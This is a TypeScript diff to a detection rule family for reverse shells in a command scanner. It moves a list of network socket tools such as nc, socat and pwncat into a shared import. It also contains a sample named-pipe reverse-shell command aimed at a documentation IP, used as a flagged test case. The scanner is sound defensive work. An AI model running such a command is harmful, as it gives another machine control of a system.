@@ -1,21 +1,10 @@
+import { SOCKET_PROGRAMS } from '../http-call.ts';
 import { type Invocation, hasArg, hasSwitch, isFed, optionWord } from '../invocation.ts';
 import { type Rule, familyOf } from '../rule.ts';
 import { TAINT } from '../taint.ts';
 import { SHELLS, inlineCode } from '../inline-code.ts';
 
-const SOCKETS = [
-  'nc',
-  'ncat',
-  'netcat',
-  'socat',
-  'telnet',
-  'openssl',
-  'pwncat',
-  'cryptcat',
-  'sbd',
-  'rustcat',
-  'rcat',
-];
+const SOCKETS = [...SOCKET_PROGRAMS, 'openssl', 'pwncat', 'cryptcat', 'sbd', 'rustcat', 'rcat'];
 const SOCKET_FILE = /^\/dev\/(?:tcp|udp)\//;
 
 const toSocket = (call: Invocation): boolean => call.redirects.some((to) => SOCKET_FILE.test(to.target.text));
@@ -41,7 +30,7 @@ const runsProgram = (call: Invocation): boolean => {
 };
 
 /** Connections that give another machine a shell on this one. */
-export const reverseShells = familyOf('Connections that give another machine a shell on this one.', [
+export const reverseShells = familyOf('Connections that give another machine a shell on this one', [
   {
     rule: 'reverse-shells.program',
     tier: 'HIGH',
@@ -103,7 +92,7 @@ export const reverseShells = familyOf('Connections that give another machine a s
     label: 'remote_code',
     message: 'Sends a program\u2019s output over a connection and brings the answer back to it.',
     zh: '通过连接发送程序输出，并把应答送回该程序。',
-    names: ['nc', 'ncat', 'netcat', 'telnet', 'openssl', 'socat'],
+    names: [...SOCKET_PROGRAMS, 'openssl'],
     when: (call) => (call.name !== 'openssl' || hasArg(call, 's_client')) && answersFile(call),
     flags: ['cat /tmp/f | sh 2>&1 | nc 192.0.2.1 4444 > /tmp/f'],
     spares: ['nc 192.0.2.1 4444 > out.bin', 'echo | openssl s_client -connect example.com:443 > cert.pem'],
